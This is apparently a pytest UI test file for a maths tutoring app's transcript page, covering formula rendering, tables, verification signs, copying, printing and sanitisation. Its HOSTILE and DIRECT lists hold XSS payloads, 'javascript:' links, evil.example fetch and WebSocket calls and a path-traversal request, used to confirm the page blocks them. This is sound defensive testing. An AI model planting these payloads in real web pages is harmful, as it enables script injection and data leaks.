"""What the transcript page shows, given operations: maths, money, code, signs, hostile texts."""

import json
import os
import signal
from collections.abc import Callable
from pathlib import Path

import pytest
import shiboken6
from PySide6.QtCore import QPoint, Qt, QUrl
from PySide6.QtTest import QTest
from PySide6.QtWebEngineCore import QWebEnginePage
from pytestqt.qtbot import QtBot

from tests.ui.conftest import PageProbe, run_until
from tests.ui.fakes import (
    MODEL,
    FakeConversation,
    FakeHistory,
    Script,
    answer_verdict,
    step_verdict,
)
from tutor_app.core.events import AttemptStarted, TextWritten
from tutor_app.core.ports import FinishReason
from tutor_app.core.records import Exchange, ExchangeState
from tutor_app.core.solution import Solution, Step
from tutor_app.core.verdict import Status
from tutor_app.ui.narration import Narration
from tutor_app.ui.operations import (
    AddText,
    AddTurn,
    OpenBlock,
    Operation,
    ShowProblem,
    encode,
)


def operations_for(text: str, lines: dict[int, Status] | None = None) -> list[Operation]:
    """An interrupted exchange: text and signs, without a verdict card."""
    steps = tuple(Step(n, "", step_verdict(n, status)) for n, status in (lines or {}).items())
    state = ExchangeState.INTERRUPTED
    exchange = Exchange(1, 1, "Solve it", state, text, steps, "", 0.0, None)
    return Narration(1, "Solve it").replay(exchange)


def show(probe: PageProbe, text: str, lines: dict[int, Status] | None = None) -> None:
    probe.show(operations_for(text, lines))


def formulas(probe: PageProbe) -> list[str]:
    found = probe.ask("[...document.querySelectorAll('.attempt .maths')].map(e => e.dataset.tex)")
    return list(found)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (r"so \(x\) is", ["x"]),
        (r"so \[x\] is", ["x"]),
        ("so $x$ is", ["x"]),
        ("so $$x$$ is", ["x"]),
        ("$$\nx = 1\n\ny = 2\n$$", ["x = 1\n\ny = 2"]),
        (
            "\\begin{aligned}\nx &= 1 \\\\\ny &= 2\n\\end{aligned}",
            ["\\begin{aligned}\nx &= 1 \\\\\ny &= 2\n\\end{aligned}"],
        ),
        (r"\[E = mc^2 \tag{1}\]", [r"E = mc^2 \tag{1}"]),
        (r"\( \theta_i \)：角度", [r"\theta_i"]),
        (r"角度\(x\)是，$y$。", ["x", "y"]),
        ("$12 \\times 12 = 144$", ["12 \\times 12 = 144"]),
        (r"$1 \ne 1$", [r"1 \ne 1"]),
        ("$1 < $2", []),
        ("choose the $1 one", []),
        ("$740 for $5 million", []),
        (r"$\$0.60$", [r"\$0.60"]),
        ("**$1.50**", []),
        ("from $990/mo to $1,500", []),
        ("It costs $5 and Bob has $x$ of them", ["x"]),
        (r"\[\begin{bmatrix}1&2\\3&4\end{bmatrix}\]", [r"\begin{bmatrix}1&2\\3&4\end{bmatrix}"]),
        (
            r"\(\sqrt[3]{8}\) and \(\underbrace{a+b}_{c}\)",
            [r"\sqrt[3]{8}", r"\underbrace{a+b}_{c}"],
        ),
        (r"\[x=5 \qquad \boxed{5}\]", [r"x=5 \qquad \boxed{5}"]),
        (r"The answer is \boxed{\frac{1}{2}}.", [r"\boxed{\frac{1}{2}}"]),
        ("plain ( a + b ) and [ E = mc^2 ]", []),
        (r"`\(x\)` is code", []),
        ("- item with \\[\n  x^2\n  \\] inside", ["x^2"]),
        ("> $$\n> x_1\n> $$", ["x_1"]),
        (r"\(\ce{H2O}\)", [r"\ce{H2O}"]),
    ],
    ids=lambda value: str(value)[:24],
)
def test_maths_is_found_and_money_is_left_alone(
    probe: PageProbe, text: str, expected: list[str]
) -> None:
    show(probe, text)
    assert formulas(probe) == expected
    assert probe.count(".unreadable") == 0


def test_a_bar_inside_maths_does_not_cut_a_table_cell(probe: PageProbe) -> None:
    show(probe, "| a | b |\n|---|---|\n| $|x|$ | 2 |")
    assert probe.texts("td")[1:] == ["2"]
    assert formulas(probe) == ["|x|"]


def test_a_long_table_repeats_its_head(probe: PageProbe) -> None:
    rows = "".join(f"| {n} | {n} |\n" for n in range(150))
    show(probe, "| n | m |\n|---|---|\n" + rows)
    assert probe.texts("th") == ["n", "m"] * 3
    assert probe.count("tbody tr") == 150


def test_code_is_never_touched(probe: PageProbe) -> None:
    code = 'foo = "\\(bar\\)"  # $5 and $x$ <w>'
    show(probe, f"```python\n{code}\n```")
    assert probe.texts(".code code") == [code]
    assert probe.count(".code .hl-string") == 1


def test_maths_that_cannot_be_typeset_stays_readable(probe: PageProbe) -> None:
    show(probe, r"see \(\frac{1}\) here")
    assert probe.texts(".unreadable") == [r"\frac{1}"]


def test_unfinished_maths_is_shown_as_source_until_it_closes(probe: PageProbe) -> None:
    narration = Narration(1, "p")
    exchange = Exchange(1, 1, "p", ExchangeState.RUNNING, "", (), "", 0.0, None)
    probe.show(narration.replay(exchange))

    probe.view.push(narration.apply(AttemptStarted(0, 1, MODEL)))
    probe.view.push(narration.apply(TextWritten(0, r"so \(x+", 1, 1.0)))
    probe.settle()
    assert probe.texts(".pending-maths") == [r"\(x+"]
    probe.view.push(narration.apply(TextWritten(0, r"1\)", 2, 1.0)))
    probe.settle()
    assert (probe.count(".pending-maths"), formulas(probe)) == (0, ["x+1"])


def test_working_is_folded_and_monospaced(probe: PageProbe) -> None:
    show(probe, "Add:\n<w>7 4 3\n6 8 5</w>\nDone")
    assert probe.texts("details.working pre") == ["7 4 3\n6 8 5"]
    assert probe.ask("document.querySelector('details.working').open") is False


def test_thinking_is_folded(probe: PageProbe) -> None:
    show(probe, "<think>Hm\nso</think>\nAnswer")
    assert probe.texts("details.thinking > summary") == ["Thinking · 2 lines"]


SIGNED = {0: Status.VERIFIED, 1: Status.REFUTED, 2: Status.UNKNOWN}


def test_signs_are_buttons_with_their_meaning_in_words(probe: PageProbe) -> None:
    show(probe, "a = 1\nb = 2\nc = 3\nd = 4", SIGNED)
    labels = probe.ask("[...document.querySelectorAll('button.sign')].map(e => e.ariaLabel)")
    assert [label.split(":")[0] for label in labels] == ["Verified", "Refuted", "Not decided"]
    paths = probe.ask(
        "[...document.querySelectorAll('button.sign path')].map(e => e.getAttribute('d'))"
    )
    assert len(set(paths)) == 3  # shapes differ, not only colours


def test_a_sign_stands_on_the_height_of_its_line(probe: PageProbe) -> None:
    show(probe, "a = 1\n\\[\\frac{x^2}{\\sqrt{y}}\\]\n\\boxed{\\frac{25}{3}}", SIGNED)
    middles = probe.ask(
        "[...document.querySelectorAll('.block')].map(b => {"
        " const m = e => { const r = e.getBoundingClientRect(); return (r.top + r.bottom) / 2 };"
        " return Math.abs(m(b.querySelector('.sign')) - m(b.querySelector('.body'))) })"
    )
    assert max(middles) < 6


def test_the_keyboard_opens_and_closes_the_evidence(probe: PageProbe, qtbot: QtBot) -> None:
    show(probe, "a = 1", {0: Status.REFUTED})
    probe.view.activateWindow()
    probe.ask("document.querySelector('.sign').focus()")
    QTest.keyClick(probe.target, Qt.Key.Key_Return)
    qtbot.waitUntil(lambda: probe.count(".why") == 1)
    words = probe.texts(".why")[0]
    assert "Not true at x = 2." in words
    assert "x = 2: left 25, right 13" in words
    assert "Read as: 3*x = 15" in words
    assert probe.ask("document.querySelector('.sign').ariaExpanded") == "true"
    QTest.keyClick(probe.target, Qt.Key.Key_Return)
    qtbot.waitUntil(lambda: probe.count(".why") == 0)


def test_copying_gives_latex_once_and_no_signs(probe: PageProbe) -> None:
    show(probe, "So \\(x^2\\) is\n\\[y = 1\\]\nend", SIGNED)
    probe.ask(
        "(getSelection().selectAllChildren(document.querySelector('.attempt')),"
        " window.copied = null, document.addEventListener('copy',"
        " e => { window.copied = e.clipboardData.getData('text/plain') }, {once: true}),"
        " document.execCommand('copy'), 1)"
    )
    assert probe.ask("window.copied") == "So \\(x^2\\) is\n\\[ y = 1 \\]\nend"


def test_only_a_real_click_reaches_python(probe: PageProbe, qtbot: QtBot) -> None:
    show(probe, "```python\nprint(1)\n```")
    pressed: list[tuple[str, str]] = []
    probe.view.pressed.connect(lambda name, target: pressed.append((name, target)))
    assert probe.ask("typeof qt") == "undefined"
    probe.ask("document.querySelector('[data-op=copy-block]').click()")
    box = probe.ask("document.querySelector('[data-op=copy-block]').getBoundingClientRect()")
    widget = probe.target
    place = QPoint(int(box["x"] + box["width"] / 2), int(box["y"] + box["height"] / 2))
    QTest.mouseClick(widget, Qt.MouseButton.LeftButton, pos=place)
    qtbot.waitUntil(lambda: bool(pressed))
    qtbot.wait(150)
    assert pressed == [("copy-block", "a1.0.0")]


def test_a_link_is_offered_not_followed(probe: PageProbe, qtbot: QtBot) -> None:
    show(probe, "[more](https://example.org/a)")
    with qtbot.waitSignal(probe.view.link_followed) as followed:
        probe.ask("document.querySelector('.attempt a').click()")
    assert followed.args == [QUrl("https://example.org/a")]
    assert probe.ask("location.href") == "tutor://ui/page.html"


HOSTILE = [
    '<img src=x onerror="window.PWNED=1">',
    "<script>window.PWNED=2</script>",
    "<svg/onload=window.PWNED=3>",
    "[a](javascript:window.PWNED=4)",
    "[a](data:text/html,<script>PWNED=5</script>)",
    "![i](https://evil.example/x.png?leak=1)",
    '<iframe src="https://evil.example"></iframe>',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    r"$\href{javascript:window.PWNED=6}{x}$",
    r"$\includegraphics{https://evil.example/a.png}$",
    r"$\htmlData{onclick=alert(1)}{x}$",
    r"$\url{javascript:PWNED=7}$",
    r"\(\text{<img src=x onerror=window.PWNED=8>}\)",
    "```html\n<script>window.PWNED=10</script>\n```",
    '```"><img/src=x/onerror=window.PWNED=16>\ncode\n```',
    "`<img src=x onerror=window.PWNED=11>`",
    "[x](<javascript:PWNED=13>)",
    "[x](JaVaScRiPt:PWNED=14)",
    '<style>@import "https://evil.example/c.css"</style>',
    '<div style="background:url(https://evil.example/b)">',
    "\ue0000\ue001 \ue000999\ue001 $x$",
    '<base href="https://evil.example/">',
    "[a]: javascript:PWNED=17\n\n[a]",
    "<https://evil.example/auto>",
    r"$\rule{9999em}{9999em}$",
    r"$\def\a{\a\a}\a$",
    "$" + "{" * 3000 + "}" * 3000 + "$",
    r"$\kern-9999em x$",
    "</script><script>window.PWNED=18</script>\u2028\u2029",
]


def test_hostile_texts_run_nothing_and_request_nothing(probe: PageProbe, qtbot: QtBot) -> None:
    gate = probe.view.page.profile().gate  # type: ignore[attr-defined]
    gate.blocked.clear()
    show(probe, "\n\n".join(HOSTILE), {0: Status.REFUTED})
    qtbot.wait(200)
    assert probe.ask("window.PWNED ?? 'no'") == "no"
    tags = "script,iframe,img,style,form,meta,base,object,embed"
    assert probe.ask(f"document.querySelectorAll('main :is({tags})').length") == 0
    handlers = (
        "[...document.querySelectorAll('main *')]"
        ".filter(e => [...e.attributes].some(a => /^on/i.test(a.name))).length"
    )
    assert probe.ask(handlers) == 0
    hrefs = probe.ask("[...document.querySelectorAll('main a')].map(a => a.getAttribute('href'))")
    assert all(href.startswith(("https://", "http://", "mailto:", "#")) for href in hrefs)
    assert gate.blocked == []


DIRECT = {
    "innerHTML": "document.body.innerHTML = '<b>x</b>'",
    "eval": "eval('1')",
    "script": "document.head.append(Object.assign(document.createElement('script'),"
    " {src: 'https://evil.example/x.js'}))",
    "socket": "new WebSocket('wss://evil.example/')",
    "rtc": "new RTCPeerConnection()",
}


@pytest.mark.parametrize("name", DIRECT)
def test_the_page_itself_cannot_do_it(probe: PageProbe, name: str) -> None:
    script = (
        f"(() => {{ try {{ {DIRECT[name]}; return 'done' }} catch (e) {{ return 'threw' }} }})()"
    )
    assert probe.ask(script) == "threw"


def test_the_gate_stops_what_a_page_without_rules_would_load(
    probe: PageProbe, qtbot: QtBot
) -> None:
    """A positive control: the interceptor is really asked, on a page that has no CSP."""
    gate = probe.view.page.profile().gate  # type: ignore[attr-defined]
    gate.blocked.clear()

    page = QWebEnginePage(probe.view.page.profile())
    page.setHtml("<img src='https://evil.example/a.png'>", QUrl("tutor://ui/other.html"))
    qtbot.waitUntil(lambda: "https://evil.example/a.png" in gate.blocked)
    shiboken6.delete(page)


def test_a_file_outside_the_folder_is_not_served(probe: PageProbe) -> None:
    probe.ask(
        "(window.got = null, fetch('tutor://ui/../../pyproject.toml')"
        ".then(() => { window.got = 'yes' }, () => { window.got = 'no' }), 1)"
    )
    run_until(lambda: probe.ask("window.got") is not None)
    assert probe.ask("window.got") == "no"


def test_replay_shows_what_the_live_answer_showed(probe: PageProbe) -> None:

    script = Script(
        "Subtract: \\(3x = 15\\)\n<w>1 2\n3</w>\n- one\n  more\n| a | b |\n|--|--|\n| 1 | 2 |\n"
        "```python\nx = 1\n```\n\\boxed{5}",
        lines={0: Status.VERIFIED, 2: Status.REFUTED, 5: Status.UNKNOWN},
    )
    history = FakeHistory()
    run = FakeConversation(history, script, chars=3).ask(None, "Solve $3x+5=20$")
    live = Narration(run.exchange_id, run.problem)
    probe.show(live.begin())
    for event in run.events():
        probe.view.push(live.apply(event))
    probe.settle()
    shown = probe.ask("document.getElementById('log').innerHTML")
    (exchange,) = history.exchanges(run.thread_id)
    probe.show(Narration(exchange.exchange_id, exchange.problem).replay(exchange))
    assert probe.ask("document.getElementById('log').innerHTML") == shown


def test_the_card_says_status_method_reading_scope_and_numbers(
    probe: PageProbe, make_solution: Callable[..., Solution]
) -> None:
    solution = make_solution(
        verdict=answer_verdict(Status.REFUTED), finish_reason=FinishReason.LENGTH
    )
    state = ExchangeState.FINISHED
    exchange = Exchange(1, 1, solution.problem, state, solution.text, (), "", 0.0, solution)
    probe.show(Narration(1, solution.problem).replay(exchange))
    card = probe.texts(".card.refuted")[0]
    for words in (
        "Refuted: the answer is wrong", "left 26, right 20", "x is a real number",
        "putting the answer back", "solve 3*x + 5 = 20 for x", "the whole answer", "attempt 2",
    ):  # fmt: skip
        assert words in card
    assert probe.texts("footer .numbers") == ["44.4 tok/s · 200 tokens · 4.5 s · seed 7 · starter"]
    assert "length limit" in probe.texts(".notice.length")[0]


def test_the_page_follows_the_text_only_while_the_reader_is_at_its_end(
    probe: PageProbe, qtbot: QtBot
) -> None:
    show(probe, "\n".join(f"line {n}" for n in range(300)))
    at_end = "innerHeight + scrollY >= document.documentElement.scrollHeight - 50"
    assert probe.ask(at_end) is True
    widget = probe.target
    widget.setFocus()
    probe.ask("document.getElementById('log').focus()")
    QTest.keyClick(widget, Qt.Key.Key_PageUp)
    qtbot.waitUntil(lambda: probe.ask("document.getElementById('newest').hidden") is False)
    before = probe.ask("scrollY")

    probe.view.push([OpenBlock("z", "a1.0", "prose", ""), AddText("z", "more\n" * 40)])
    probe.settle()
    assert probe.ask("scrollY") == before
    probe.ask("document.getElementById('newest').click()")
    qtbot.waitUntil(lambda: probe.ask(at_end) is True)


def test_a_new_problem_brings_the_page_to_its_end_again(probe: PageProbe, qtbot: QtBot) -> None:
    show(probe, "\n".join(f"line {n}" for n in range(300)))
    probe.target.setFocus()
    probe.ask("document.getElementById('log').focus()")
    QTest.keyClick(probe.target, Qt.Key.Key_PageUp)
    qtbot.waitUntil(lambda: probe.ask("document.getElementById('newest').hidden") is False)
    probe.view.push([AddTurn("q2", "user", "You"), ShowProblem("q2", "What is 2 + 2?")])
    at_end = "innerHeight + scrollY >= document.documentElement.scrollHeight - 50"
    qtbot.waitUntil(lambda: probe.ask(at_end) is True)


def test_a_dead_renderer_is_replaced_and_shows_everything_again(
    probe: PageProbe, qtbot: QtBot
) -> None:
    show(probe, "one\ntwo\nthree", SIGNED)
    shown = probe.ask("document.getElementById('log').innerHTML")
    with qtbot.waitSignal(probe.view.page.renderProcessTerminated, timeout=10_000):
        probe.view.page.runJavaScript("1")
        _kill_renderer(probe)
    run_until(lambda: probe.view.is_idle)
    assert probe.ask("document.getElementById('log').innerHTML") == shown


def _kill_renderer(probe: PageProbe) -> None:

    os.kill(probe.view.page.renderProcessPid(), signal.SIGKILL)


def test_a_printed_thread_is_a_pdf_with_its_text(
    probe: PageProbe, qtbot: QtBot, tmp_path: Path
) -> None:
    wide = " + ".join(f"x_{{{n}}}" for n in range(60))
    show(probe, f"First line\n\\[{wide}\\]\nLast line", SIGNED)
    path = tmp_path / "thread.pdf"
    with qtbot.waitSignal(probe.view.page.pdfPrintingFinished, timeout=15_000) as printed:
        probe.view.print_to(path)
    assert printed.args == [str(path), True]
    assert path.read_bytes().startswith(b"%PDF")


@pytest.mark.parametrize(
    "text",
    ["\\[" + "x+1 " * 8_000, "word " * 8_000, "\\frac{" * 5_000, "- item\n" * 2_000,
     "```\n" + "code\n" * 5_000, "| a | b |\n|--|--|\n" + "| 1 | 2 |\n" * 800],
    ids=["unclosed maths", "endless line", "degenerate", "list", "unclosed fence", "table"],
)  # fmt: skip
def test_bad_inputs_do_not_stall_the_page(probe: PageProbe, text: str) -> None:
    """Streams in 12 batches; no single update may take long (a generous bound: CI is slow)."""
    probe.show(operations_for(""))
    probe.ask("(window.slowest = 0, window.realPush = window.realPush || tutor.push, 1)")
    probe.ask(
        "(tutor.push = batch => { const ms = realPush(batch);"
        " slowest = Math.max(slowest, ms); return ms }, 1)"
    )

    narration = Narration(2, "p")
    probe.view.push(narration.begin())
    probe.view.push(narration.apply(AttemptStarted(0, 1, MODEL)))
    size = len(text) // 12 + 1
    for start in range(0, len(text), size):
        probe.view.push(narration.apply(TextWritten(0, text[start : start + size], 1, 1.0)))
        probe.settle()
    assert probe.ask("slowest") < 400


def test_a_batch_is_plain_ascii_json(probe: PageProbe) -> None:

    batch = encode([AddText("a", "√2\u2028</script>")])
    assert batch.isascii()
    assert json.loads(batch) == [{"op": "text", "id": "a", "s": "√2\u2028</script>"}]


def test_a_formula_wider_than_paper_is_shrunk_while_printing(probe: PageProbe) -> None:
    wide = " + ".join(f"x_{{{n}}}" for n in range(60))
    show(probe, f"\\[{wide}\\]\n\\[a = 1\\]")
    sizes = "[...document.querySelectorAll('.katex-display > .katex')].map(e => e.style.fontSize)"
    probe.ask("dispatchEvent(new Event('beforeprint'))")
    shrunk, normal = probe.ask(sizes)
    assert (shrunk.endswith("em"), normal) == (True, "")
    probe.ask("dispatchEvent(new Event('afterprint'))")
    assert probe.ask(sizes) == ["", ""]
